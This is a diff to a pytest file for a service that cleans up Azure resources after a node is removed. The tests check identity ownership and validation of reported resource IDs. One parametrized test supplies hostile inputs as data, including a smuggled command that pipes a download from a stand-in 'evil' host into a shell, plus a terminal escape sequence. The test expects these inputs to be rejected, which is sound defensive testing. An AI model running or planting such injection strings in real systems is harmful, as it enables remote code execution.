@@ -40,7 +40,13 @@ class FakeArm:
     """Azure that allows some deletions."""
 
     denied: str = ""
+    principal: str = OID
     deleted: list[str] = field(default_factory=list)
+
+    def get(self, path: str, api_version: str) -> dict[str, Any]:
+        assert path
+        assert api_version
+        return {"identity": {"principalId": self.principal}}
 
     def delete(self, path: str, api_version: str) -> None:
         assert api_version
@@ -85,7 +91,28 @@ def test_service_removes_what_the_agent_could_not_remove(service: Running, admin
     removed = after_report(service, name, arm, [*ASSIGNMENTS, machine(name), FOREIGN])
 
     assert removed == arm.deleted == [*ASSIGNMENTS, machine(name)], "and nothing of others"
-    assert cleanup_event(admin, name)["remaining"] == [f"az resource delete --ids {FOREIGN}"]
+    detail = cleanup_event(admin, name)
+    assert (detail["remaining"], detail["reportedByMachine"]) == ([], [FOREIGN]), (
+        "no command for what is not verified"
+    )
+
+
+@pytest.mark.usefixtures("deleted")
+def test_arc_machine_with_another_identity_is_never_removed(service: Running, admin: Api, name: str) -> None:
+    arm = FakeArm(principal="somebody-else")
+
+    assert after_report(service, name, arm, [machine(name)]) == []
+
+    assert arm.deleted == []
+    assert "another identity" in cleanup_event(admin, name)["why"]
+
+
+@pytest.mark.parametrize("reported", ["/subscriptions/x;curl${IFS}evil|sh", "/subscriptions/\x1b[2J", "/etc/x"])
+@pytest.mark.usefixtures("deleted")
+def test_reported_resource_must_be_an_id(service: Running, tenant: Tenant, name: str, reported: str) -> None:
+    own = service.admin.as_somebody(tenant.application(callers.NODE))
+
+    assert own.report(name, {"remainingResources": [reported]}).status == 400
 
 
 @pytest.mark.usefixtures("deleted")
@@ -120,11 +147,27 @@ def test_machine_of_an_existing_node_is_never_removed(service: Running, name: st
     assert arm.deleted == []
 
 
-@pytest.mark.usefixtures("deleted")
-def test_lost_machine_loses_its_role_assignments(service: Running, admin: Api, name: str) -> None:
+def test_lost_machine_loses_its_role_assignments(service: Running, admin: Api, tenant: Tenant, name: str) -> None:
+    by_identity = body()
+    by_identity["properties"]["kubernetesAuth"] = {"useAzureAuth": True, "method": "exec"}
+    admin.put(name, by_identity)
+    own = admin.as_somebody(tenant.application(callers.NODE))
+    assert own.report(name, {"joinState": "ConfigFetched"}).status == 200
+    admin.delete(name)
     arm = FakeArm()
 
     service.call(cleanup_with(service, arm).after_removal(PLANT.key, name))
 
     assert arm.deleted == ASSIGNMENTS
     assert cleanup_event(admin, name)["remaining"] == [f"az resource delete --ids {machine(name)}"]
+
+
+@pytest.mark.usefixtures("deleted")
+def test_declared_identity_that_never_signed_in_keeps_its_roles(service: Running, admin: Api, name: str) -> None:
+    arm = FakeArm()
+
+    service.call(cleanup_with(service, arm).after_removal(PLANT.key, name))
+
+    assert arm.deleted == [], "a user who writes the properties could name the identity of another machine"
+    command = f"az role assignment list --scope {PLANT}"
+    assert cleanup_event(admin, name)["remaining"] == [f"az resource delete --ids {machine(name)}", command]
